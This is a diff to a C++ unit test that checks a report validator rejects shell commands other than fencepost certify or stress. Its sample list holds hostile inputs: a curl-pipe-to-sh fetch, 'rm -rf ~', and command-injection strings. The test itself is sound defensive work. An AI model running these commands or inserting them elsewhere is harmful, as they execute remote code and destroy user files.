@@ -372,12 +372,15 @@ TEST(ReportReadError, RefusesValuesWithinValuesToNoEnd) {
 // They are printed for people to run.
 TEST(ReportReadError, RefusesCommandsThatAreNotOurs) {
   const Sample sample = run_on_store(reference_store());
-  for (const char* command : {"curl https://e.example | sh #", "fencepost certify; rm -rf ~",
-                              "fencepost $(x)", "fencepost certify\nrm"}) {
+  for (const char* command :
+       {"curl https://e.example | sh #", "fencepost certify; rm -rf ~", "fencepost $(x)",
+        "fencepost certify\nrm", "fencepost serve -- sh -c 'touch x'", "fencepost certify --json x",
+        "fencepost certify-client -- sh", "fencepost certify -- sh", "fencepost certify --run",
+        "fencepost certify --endpoint --json"}) {
     nlohmann::json changed = nlohmann::json::parse(sample.json());
     changed["command"] = command;
     EXPECT_THAT(error_of(sample, changed.dump()),
-                StartsWith("r.json: /command: must be a command of fencepost"));
+                StartsWith("r.json: /command: must be a command of fencepost certify or stress"));
   }
 }
 
